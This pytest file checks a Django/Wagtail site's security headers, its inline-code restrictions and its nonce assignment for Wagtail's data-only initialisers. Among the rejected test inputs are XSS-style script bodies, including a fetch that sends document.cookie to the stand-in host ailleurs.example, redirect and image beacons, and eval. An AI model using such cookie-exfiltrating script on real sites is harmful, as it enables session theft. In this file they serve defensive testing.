"""Security headers on the main pages (core/security.py), and pages that run no inline code.

The site's pages and Django's admin allow scripts and styles from our origin only; Wagtail's admin
gives a per-response nonce to its own data-only initialisers and to nothing else.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from django.urls import reverse
from machina.apps.forum_conversation.models import Topic

from core.security import add_nonce_to_wagtail_initialisers, is_wagtail_initialiser
from forum import services as forum_services
from forum.models import ForumSpace
from tests.factories.cms import add_event

ROOT = Path(__file__).resolve().parent.parent

MEMBER_PAGES = ["/", "/forum/", "/discussions/", "/recherche/?q=contr%C3%B4le", "/annuaire/"]
ANONYMOUS_PAGES = ["/", "/compte/connexion/", "/adhesion/", "/admin/login/"]
STAFF_PAGES = ["/admin/", "/admin/password_change/", "/cms-admin/", "/cms-admin/documents/"]


def directives(response) -> dict[str, list[str]]:
    policy = response["Content-Security-Policy"]
    parsed = {}
    for directive in policy.split(";"):
        name, *sources = directive.split()
        parsed[name] = sources
    return parsed


class InlineCode(HTMLParser):
    """Collects what a strict policy refuses: inline scripts, on… handlers, javascript: URLs, style attributes."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._in_inline_script = False

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name == "style":
                self.problems.append(f"<{tag} style=…>")
            if name in {"href", "src", "action", "formaction"} and (value or "").strip().lower().startswith(
                    "javascript:"):
                self.problems.append(f"<{tag} {name}=javascript:…>")
        if tag == "script" and "src" not in attributes:
            script_type = (attributes.get("type") or "text/javascript").lower()
            self._in_inline_script = script_type in {"text/javascript", "application/javascript", "module"}

    def handle_data(self, data):
        if self._in_inline_script and data.strip():
            self.problems.append(f"<script>{data.strip()[:60]}</script>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_inline_script = False


def inline_code(html: str) -> list[str]:
    parser = InlineCode()
    parser.feed(html)
    return parser.problems


@pytest.fixture
def forum_topic(director):
    forum_services.ensure_forum_tree()
    forum = ForumSpace.objects.filter(kind="theme").order_by("key").first().forum
    return Topic.objects.create(forum=forum, subject="Trames de rapport", poster=director, type=Topic.TOPIC_POST,
                                status=Topic.TOPIC_UNLOCKED, approved=True)


# --- headers --------------------------------------------------------------------------------------


def assert_strict_site_policy(response) -> None:
    policy = directives(response)
    assert policy["default-src"] == ["'self'"]
    assert policy["script-src"] == ["'self'"]
    assert policy["style-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'self'"]
    assert policy["form-action"] == ["'self'"]
    assert policy["frame-ancestors"] == ["'none'"]
    if response.status_code == 200:  # redirects of MembersOnlyMiddleware skip XFrameOptionsMiddleware: no body
        assert response["X-Frame-Options"] == "DENY"


def assert_common_headers(response) -> None:
    assert response["Referrer-Policy"] == "same-origin"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cross-Origin-Opener-Policy"] == "same-origin"
    permissions = response["Permissions-Policy"]
    for feature in ("camera", "microphone", "geolocation", "payment"):
        assert f"{feature}=()" in permissions


@pytest.mark.django_db
@pytest.mark.parametrize("url", MEMBER_PAGES)
def test_member_pages_carry_a_strict_policy_and_run_no_inline_code(client, director, forum_topic, url):
    client.force_login(director)

    response = client.get(url)

    assert response.status_code == 200
    assert_strict_site_policy(response)
    assert_common_headers(response)
    assert inline_code(response.content.decode()) == []


@pytest.mark.django_db
@pytest.mark.parametrize("url", ANONYMOUS_PAGES)
def test_public_pages_and_redirects_carry_a_strict_policy(client, url):
    response = client.get(url)

    assert response.status_code in {200, 302}
    assert_strict_site_policy(response)
    assert_common_headers(response)
    if response.status_code == 200:
        assert inline_code(response.content.decode()) == []


@pytest.mark.django_db
def test_the_forum_topic_and_editor_pages_run_no_inline_code(client, director, forum_topic):
    client.force_login(director)
    forum = forum_topic.forum
    in_forum = {"forum_slug": forum.slug, "forum_pk": forum.pk}
    urls = [
        reverse("forum:forum", kwargs={"slug": forum.slug, "pk": forum.pk}),
        reverse("forum_conversation:topic", kwargs={**in_forum, "slug": forum_topic.slug, "pk": forum_topic.pk}),
        reverse("forum_conversation:topic_create", kwargs=in_forum),
        reverse("forum_conversation:post_create",
                kwargs={**in_forum, "topic_slug": forum_topic.slug, "topic_pk": forum_topic.pk}),
    ]
    for url in urls:
        response = client.get(url)
        assert response.status_code == 200, url
        assert_strict_site_policy(response)
        assert inline_code(response.content.decode()) == [], url


@pytest.mark.django_db
def test_the_chat_websocket_origin_is_allowed(client, director):
    client.force_login(director)

    policy = directives(client.get("/discussions/"))

    assert policy["connect-src"] == ["'self'", "ws://testserver"]


@pytest.mark.django_db
@pytest.mark.parametrize("url", STAFF_PAGES)
def test_admin_pages_allow_no_inline_script(client, staff, url):
    client.force_login(staff)

    response = client.get(url)

    assert response.status_code == 200
    policy = directives(response)
    assert "'unsafe-inline'" not in policy["script-src"]
    assert "'unsafe-eval'" not in policy["script-src"]
    assert policy["object-src"] == ["'none'"]
    assert_common_headers(response)


@pytest.mark.django_db
def test_django_admin_has_the_strict_site_policy(client, staff):
    client.force_login(staff)

    response = client.get("/admin/")

    assert_strict_site_policy(response)
    assert inline_code(response.content.decode()) == []


@pytest.mark.django_db
def test_only_the_wagtail_admin_may_frame_itself_for_its_preview(client, staff):
    client.force_login(staff)

    response = client.get("/cms-admin/")

    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert directives(response)["frame-ancestors"] == ["'self'"]
    assert directives(response)["frame-src"] == ["'self'"]


@pytest.mark.django_db
def test_error_pages_carry_the_policy_too(client, director):
    client.force_login(director)

    response = client.get("/annuaire/personnes/personne-inexistante/")

    assert response.status_code == 404
    assert_strict_site_policy(response)


# --- Wagtail's inline initialisers ----------------------------------------------------------------


@pytest.mark.parametrize("body", [
    'initDateChooser("id_date", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
    'initDateTimeChooser("id_starts_at", {"dayOfWeekStart": 1, "format": "Y-m-d H:i"});',
    'new PageChooser("id_root_page", {"modalUrl": "/cms-admin/choose-page/", "modelNames": ["wagtailcore.page"]});',
    'createTaskChooser("id_workflow_tasks-0-task");',
    '\n        (function() {\n            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: '
    '\\u0022id_workflow_tasks\\u0022}"));\n        })();\n    ',
])
def test_wagtails_data_only_initialisers_are_recognised(body):
    assert is_wagtail_initialiser(body)


@pytest.mark.parametrize("body", [
    'alert(document.cookie);',
    'initDateChooser("id_date", {"a": document.cookie});',
    'initDateChooser("id_date"); fetch("https://ailleurs.example/" + document.cookie);',
    'location.assign("https://ailleurs.example/");',
    'new Image("https://ailleurs.example/");',
    'new PageChooser("id", {});alert(1)//',
    '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
    'eval("alert(1)");',
    'new PageChooser("id", {"title": "<!--<script>"});',
])
def test_any_other_inline_script_is_not(body):
    assert not is_wagtail_initialiser(body)


def test_the_nonce_goes_to_initialisers_only():
    html = ('<script src="/static/a.js"></script><script type="application/json">{"a": 1}</script>'
            '<script>initDateChooser("id_date", {"format": "Y-m-d"});</script><script>alert(1)</script>')

    result = add_nonce_to_wagtail_initialisers(html, "abc")

    assert result.count('nonce="abc"') == 1
    assert '<script nonce="abc">initDateChooser(' in result
    assert "<script>alert(1)</script>" in result


@pytest.mark.django_db
def test_the_event_editor_gets_a_nonce_for_its_date_pickers_only(client, staff):
    event = add_event("Journée régionale")
    client.force_login(staff)

    response = client.get(f"/cms-admin/pages/{event.pk}/edit/")

    assert response.status_code == 200
    [nonce_source] = [s for s in directives(response)["script-src"] if s.startswith("'nonce-")]
    nonce = nonce_source[len("'nonce-"):-1]
    html = response.content.decode()
    nonced = re.findall(rf'<script nonce="{re.escape(nonce)}">(.*?)</script>', html, re.S)
    assert any("initDateTimeChooser" in body for body in nonced)
    assert all(is_wagtail_initialiser(body) for body in nonced)


def test_each_response_gets_its_own_nonce(rf):
    from django.http import HttpResponse

    from core.security import SecurityHeadersMiddleware

    html = '<script>initDateChooser("id_date", {});</script>'
    middleware = SecurityHeadersMiddleware(lambda request: HttpResponse(html))
    first = middleware(rf.get("/cms-admin/pages/1/edit/"))["Content-Security-Policy"]
    second = middleware(rf.get("/cms-admin/pages/1/edit/"))["Content-Security-Policy"]

    assert "'nonce-" in first and first != second


# --- templates and scripts as written -------------------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", re.I)
EVENT_HANDLER = re.compile(r"<[a-z][^>]*\son[a-z]+\s*=", re.I)
STYLE_ATTRIBUTE = re.compile(r"<[a-z][^>]*\sstyle\s*=", re.I)


def test_our_templates_hold_no_inline_script_handler_style_or_javascript_url():
    problems = []
    for path in sorted((ROOT / "templates").rglob("*.html")):
        text = path.read_text()
        relative = path.relative_to(ROOT)
        if "/email/" in str(relative):
            continue  # e-mails are read in mail clients, not under the site's policy
        for pattern, what in ((INLINE_SCRIPT, "script en ligne"), (EVENT_HANDLER, "gestionnaire on…"),
                              (STYLE_ATTRIBUTE, "attribut style")):
            if pattern.search(text):
                problems.append(f"{relative} : {what}")
        if "javascript:" in text.lower():
            problems.append(f"{relative} : URL javascript:")
    assert problems == []


def test_our_scripts_use_no_eval_nor_javascript_urls():
    problems = []
    for path in sorted((ROOT / "static" / "js").glob("*.js")):
        text = path.read_text()
        for needle in ("eval(", "new Function(", "javascript:", "setAttribute(\"style\"", "setAttribute('style'"):
            if needle in text:
                problems.append(f"{path.name} : {needle}")
    assert problems == []


@pytest.mark.django_db
def test_a_refused_form_gets_a_french_page_without_inline_style(director):
    from django.test import Client

    client = Client(enforce_csrf_checks=True)
    client.force_login(director)

    response = client.post("/compte/deconnexion/")

    assert response.status_code == 403
    page = response.content.decode()
    assert "Formulaire refusé" in page
    assert inline_code(page) == [] and "<style" not in page
    assert_strict_site_policy(response)
